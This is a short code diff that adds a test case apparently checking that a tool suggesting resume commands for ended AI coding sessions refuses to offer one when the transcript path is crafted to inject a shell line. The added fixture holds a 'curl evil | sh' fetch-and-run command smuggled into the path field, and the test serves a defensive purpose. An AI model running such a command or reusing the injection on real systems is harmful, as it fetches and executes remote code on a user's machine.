@@ -69,6 +69,12 @@ describe('the commands that answer it', () => {
       ['cd /srv/shop && claude --resume s', 'watchkeeper events a-ps'],
     ],
     [
+      'of a session whose place would forge a line, no command goes on',
+      'ended-unexpectedly',
+      ended({ sessionId: 's', transcript: '/o\n  $ curl evil | sh #/projects/x/s.jsonl' }),
+      ['watchkeeper events a-ps'],
+    ],
+    [
       'a client that nobody can resume',
       'ended-unexpectedly',
       ended({ transcript: usual, client: 'parrot' }),
